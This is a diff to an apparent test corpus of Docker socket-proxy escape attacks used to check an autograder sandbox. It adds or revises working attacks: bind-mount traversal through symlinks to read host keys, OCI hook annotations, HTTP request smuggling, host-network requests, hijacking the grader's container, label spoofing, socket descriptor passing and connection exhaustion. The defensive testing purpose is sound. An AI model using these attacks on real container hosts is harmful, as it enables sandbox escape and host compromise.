@@ -6,48 +6,22 @@ Each prints REACHED only when it has what it wants; the tests search for that wo
 from __future__ import annotations
 
 from tests.attack_corpus.attack import Attack
-
-#: What each begins with: ``ask`` sends a request as it is, ``report`` prints the word that the tests search for.
-COMMON = """import docker, http.client, json, os, socket
-client, busybox, work = docker.from_env(), "drydock/busybox:1.37", os.getcwd()
-def connect():
-    line = socket.socket(socket.AF_UNIX)
-    line.settimeout(20)
-    line.connect("/var/run/docker.sock")
-    return line
-def ask(method, path, body=None):
-    http_line = http.client.HTTPConnection("docker")
-    http_line.sock = connect()
-    text = body if body is None or isinstance(body, str) else json.dumps(body)
-    http_line.request(method, path, text, {"Content-Type": "application/json"})
-    answer = http_line.getresponse()
-    return answer.status, answer.read()
-def report(reached):
-    print("REA" + "CHED" if reached else "failed")
-def grader():
-    return next(one["Id"] for one in json.loads(ask("GET", "/containers/json")[1]) if "/kernel" in one["Names"][0])
-def look_around(**options):
-    try:
-        seen = client.containers.run(busybox, "ls -a /h /h/run/seed", remove=True, **options).decode()
-    except docker.errors.APIError as error:
-        seen = str(error)
-    print(seen)
-    report("server-key.pem" in seen or "vmlinuz" in seen)
-"""
+from tests.attack_corpus.requests_to_docker import COMMON
 
 _CODE = {
     "annotations": (
         "Has the container runtime write to a file of the machine, by annotations.",
-        """hook = {"run.oci.hooks.stdout": work + "/made-by-the-runtime"}
-status, answer = ask("POST", "/containers/create?name=hook",
-    {"Image": busybox, "Cmd": ["true"], "HostConfig": {"Annotations": hook}})
-report(status == 201)""",
+        """hook = {"run.oci.hooks.stdout": work + "/made-by-the-runtime", "run.oci.seccomp_bpf_data": "BgAAAAAA/38="}
+report(create(Cmd=["true"], HostConfig={"Annotations": hook}))
+report(create(Cmd=["true"], Annotations=hook))
+report(create(Cmd=["true"], Labels=hook) and os.path.exists("made-by-the-runtime"))""",
     ),
     "dots-behind-a-link": (
         "Binds a path with `..` behind a link, which one program resolves on disk and another one as text.",
         """os.makedirs("a/b/c/d/e/f/g/h/i")
 os.symlink(work + "/a/b/c/d/e/f/g/h/i", "deep")
-look_around(volumes=[work + "/deep" + "/.." * (work.count("/") + 1) + ":/h"])""",
+look_around(volumes=[work + "/deep" + "/.." * (work.count("/") + 1) + ":/h"])
+look_around(volumes=[work + "/deep/" + "../" * 9 + ":/h"])""",
     ),
     "changed-after-creation": (
         "Binds a folder, and replaces it by a link to the root before the container starts.",
@@ -55,30 +29,16 @@ look_around(volumes=[work + "/deep" + "/.." * (work.count("/") + 1) + ":/h"])"""
 made = client.containers.create(busybox, "ls -a /h /h/run/seed", volumes=[work + "/folder:/h"])
 os.rmdir("folder")
 os.symlink("/", "folder")
-try:
-    made.start()
-    made.wait()
-except docker.errors.APIError as error:
-    print(error)
-report(b"server-key.pem" in made.logs())""",
+report(b"server-key.pem" in output(made))""",
     ),
     "subpath": (
         "Mounts a volume's link to the root as the volume's subpath.",
         """client.volumes.create("links")
 client.containers.run(busybox, "ln -s / /v/root", volumes=["links:/v"], remove=True)
-for subpath in ("root", "../../../../../..", "/"):
+for subpath in ("root", "root/run", "../../../../../..", "/"):
     mount = {"Type": "volume", "Source": "links", "Target": "/h", "VolumeOptions": {"Subpath": subpath}}
-    status, answer = ask("POST", "/containers/create",
-        {"Image": busybox, "Cmd": ["ls", "-a", "/h/run/seed"], "HostConfig": {"Mounts": [mount]}})
-    print(answer)
-    if status == 201:
-        made = client.containers.get(json.loads(answer)["Id"])
-        try:
-            made.start()
-            made.wait()
-        except docker.errors.APIError as error:
-            print(error)
-        report(b"server-key.pem" in made.logs())""",
+    made = create(Cmd=["ls", "-a", "/h", "/h/seed", "/h/run/seed"], HostConfig={"Mounts": [mount]})
+    report(b"server-key.pem" in output(made))""",
     ),
     "two-of-a-name": (
         "Names a field twice, and writes it in letters that Go takes for the same.",
@@ -90,7 +50,7 @@ for subpath in ("root", "../../../../../..", "/"):
     ),
     "request-in-a-request": (
         "Hides a second request behind a first one, in its body, its chunks, or a stream.",
-        """body = b'{"Image": "drydock/busybox:1.37", "HostConfig": {"Privileged": true}}'
+        """body = b'{"Image": "drydock/busybox:1.37"}'
 second = b"POST /containers/create?name=second HTTP/1.1\\r\\nHost: docker\\r\\nContent-Type: application/json\\r\\n"
 second += b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body
 for first in (b"GET /info HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
@@ -100,12 +60,17 @@ for first in (b"GET /info HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
               b"POST /auth HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n"):
     with connect() as line:
         line.sendall(first + second)
+        answer = b""
         try:
-            while line.recv(65536):
-                pass
-        except OSError:
-            pass
-report(ask("GET", "/containers/second/json")[0] == 200)""",
+            while received := line.recv(65536):
+                answer += received
+        except OSError as error:
+            print(error)
+        print(first[:30], answer[:40], answer.count(b"HTTP/1.1 "))
+report(ask("GET", "/containers/second/json")[0] == 200)
+with connect() as line:  # the same request by itself is accepted
+    line.sendall(second)
+    print(line.recv(100))""",
     ),
     "network-of-the-machine": (
         "Takes the machine's own network: for a container, a build, a network of its own.",
@@ -113,36 +78,60 @@ report(ask("GET", "/containers/second/json")[0] == 200)""",
     "/containers/create": {"Image": busybox, "HostConfig": {"NetworkMode": "host"}},
     "/networks/create": {"Name": "card", "Driver": "macvlan", "Options": {"parent": "vec0"}},
     "/networks/create?x=": {"Name": "uplink", "IPAM": {"Config": [{"Subnet": "10.0.2.0/24"}]}},
-    "/build?networkmode=host": None,
+    "/build?networkmode=host": archive(("Dockerfile", {}, b"FROM drydock/busybox:1.37\\nRUN true")),
 }.items():
     report(ask("POST", path, body)[0] in (200, 201))""",
     ),
+    "network-named-like-an-id": (
+        "Names a network by the id of the machine's own network, and joins it by its real id.",
+        """host = client.networks.list(names=["host"])[0].id
+status, answer = ask("POST", "/networks/create", {"Name": host})
+for name in (host, json.loads(answer).get("Id", "none"), host[:12]):
+    made = create(Cmd=["ip", "address", "show", "dev", "vec0"], HostConfig={"NetworkMode": name})
+    report(b"10.0.2.100" in output(made))""",
+    ),
+    "container-named-like-an-id": (
+        "Names a container by the id of the grader's container, and enters it by that name.",
+        """kernel = grader()
+ask("POST", "/containers/create?name=" + kernel, {"Image": busybox})
+ask("POST", "/containers/create?name=" + kernel[:12], {"Image": busybox})
+for name in (kernel, kernel[:12]):
+    report(ask("POST", "/containers/%s/exec" % name, {"Cmd": ["true"]})[0] == 201 and
+           kernel in json.loads(ask("GET", "/containers/%s/json" % name)[1])["Id"])""",
+    ),
     "entitlements": (
         "Asks a build for the machine's network and for privileges.",
-        """import subprocess
-for option in ("network=host", "security=insecure"):
+        """for option in ("network=host", "security=insecure"):
     open("Dockerfile", "w").write("FROM drydock/busybox:1.37\\nRUN --%s true\\n" % option)
-    build = ["docker", "build", "--allow", "network.host", "--allow", "security.insecure", "."]
-    report(subprocess.run(build, env={**os.environ, "DOCKER_BUILDKIT": "1"}).returncode == 0)""",
+    build = ["docker", "build", "--progress=plain", "--allow", "network.host", "--allow", "security.insecure", "."]
+    done = subprocess.run(build, env={**os.environ, "DOCKER_BUILDKIT": "1"}, capture_output=True, text=True)
+    print(done.stderr[-400:])
+    report(done.returncode == 0)""",
     ),
     "containers-of-the-grader": (
         "Enters, changes and shares with the container that the notebook runs in.",
         """kernel = grader()
 shared = {name: "container:" + kernel for name in ("PidMode", "IpcMode", "NetworkMode")}
 for host in [{name: mode} for name, mode in shared.items()] + [{"VolumesFrom": [kernel[:12]]}]:
-    report(ask("POST", "/containers/create", {"Image": busybox, "HostConfig": host})[0] == 201)
-for verb, body in ("exec", {"Cmd": ["true"]}), ("update", {"Memory": 1 << 30}), ("rename?name=x", None):
-    report(ask("POST", "/containers/%s/%s" % (kernel, verb), body)[0] in (200, 201, 204))""",
+    report(create(HostConfig=host))
+for verb, body in ("exec", {"Cmd": ["true"]}), ("update", {"Memory": 1 << 30}), ("rename?name=x", None), ("stop", None):
+    report(ask("POST", "/containers/%s/%s" % (kernel, verb), body)[0] in (200, 201, 204))
+report(ask("GET", "/containers/%s/archive?path=/" % kernel)[0] == 200)
+report(ask("POST", "/commit?container=" + kernel)[0] == 201)""",
     ),
     "label-of-the-grader": (
         "Makes an image with the grader's label, so that its containers look like the grader's.",
         """made = client.containers.create(busybox, labels={"io.drydock.owner": "autograder"})
-image = made.commit("labelled", changes="LABEL io.drydock.owner=autograder")
-again = client.containers.create(image.id)
-report("autograder" in (made.labels.get("io.drydock.owner"), again.labels.get("io.drydock.owner")))""",
+image = attempt(made.commit, "labelled", changes="LABEL io.drydock.owner=autograder")
+open("Dockerfile", "w").write("FROM drydock/busybox:1.37\\nLABEL io.drydock.owner=autograder\\n")
+subprocess.run(["docker", "build", "--quiet", "--label", "io.drydock.owner=autograder", "--tag", "built", "."])
+again = [client.containers.create(name) for name in (image and image.id, "built") if name]
+labels = [one.labels.get("io.drydock.owner") for one in (made, *again)]
+print(labels)
+report("autograder" in labels)""",
     ),
     "passed-connection": (
-        "Passes an open connection to a container that stays, for use after the notebook has ended.",
+        "Passes an open connection to a container that stays, and ends the process that opened it.",
         """os.makedirs("shared")
 program = '''
 import socket, time
@@ -151,25 +140,59 @@ listener.bind("/s/line")
 listener.listen()
 given, _ = listener.accept()
 _, descriptors, _, _ = socket.recv_fds(given, 1, 1)
+while given.recv(1):
+    pass
 time.sleep(1)
 line = socket.socket(fileno=descriptors[0])
-for _ in range(60):
-    time.sleep(1)
-    try:
-        line.sendall(b"GET /_ping HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n\\\\r\\\\n")
-        print(line.recv(100))
-    except OSError:
-        pass
+try:
+    line.sendall(b"GET /_ping HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n\\\\r\\\\n")
+    answer = line.recv(100)
+except OSError as error:
+    answer = str(error).encode()
+open("/s/answer", "wb").write(answer + b"!")
 '''
 client.containers.run("drydock/python:3.13", ["python3", "-c", program], volumes=[work + "/shared:/s"], detach=True)
-import time
-for _ in range(100):
-    if os.path.exists("shared/line"):
-        break
-    time.sleep(0.1)
-with socket.socket(socket.AF_UNIX) as near:
-    near.connect("shared/line")
-    socket.send_fds(near, [b"x"], [connect().fileno()])""",
+passing = '''
+import socket
+line, near = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
+line.connect("/var/run/docker.sock")
+near.connect("shared/line")
+socket.send_fds(near, [b"x"], [line.fileno()])
+'''
+def until(path):
+    for _ in range(100):
+        if os.path.exists(path):
+            return True
+        time.sleep(0.1)
+until("shared/line")
+subprocess.run(["python3", "-c", passing])
+answer = open("shared/answer", "rb").read() if until("shared/answer") else b"none"
+print(answer)
+report(b"200 OK" in answer)""",
+    ),
+    "call-from-a-container": (
+        "Takes the socket into a container of its own, by every way that the socket has a name.",
+        """for volume in ("/var/run/docker.sock:/s", "/run:/s", "/run/docker.sock:/s", "/proc/1/root/run:/s"):
+    attempt(client.containers.run, busybox, "true", volumes=[volume])
+os.symlink("/var/run/docker.sock", "socket")
+attempt(os.link, "/var/run/docker.sock", "linked")
+script = "for s in /s/socket /s/linked /proc/1/root/run/docker.sock; do echo GET | nc local:$s; done; ls -lL /s/"
+listing = client.containers.run(busybox, ["sh", "-c", script], volumes=[work + ":/s"], stderr=True)
+print(listing)
+report(b"HTTP/1." in listing or b" linked" in listing)""",
+    ),
+    "held-connections": (
+        "Opens every connection that the proxy has, and sends a byte now and then.",
+        """lines = [connect() for _ in range(300)]
+for _ in range(3):
+    for line in lines:
+        attempt(line.sendall, b"G")
+    time.sleep(1)
+print(attempt(client.ping))
+for line in lines:
+    line.close()
+time.sleep(1)
+report(attempt(client.ping) is not True)""",
     ),
     "volume-and-link": (
         "Combines two: a container of its own makes links in the work folder, and another one binds through them.",
@@ -180,5 +203,6 @@ look_around(mounts=[docker.types.Mount("/h", work + "/inner", type="bind")])""",
 }
 
 ATTACKS = {
-    name: Attack(tries, COMMON + code, "proxy", states=("graded", "crashed")) for name, (tries, code) in _CODE.items()
+    name: Attack(tries, COMMON + code, "proxy", states=("graded", "crashed"), combined=tries.startswith("Combines"))
+    for name, (tries, code) in _CODE.items()
 }
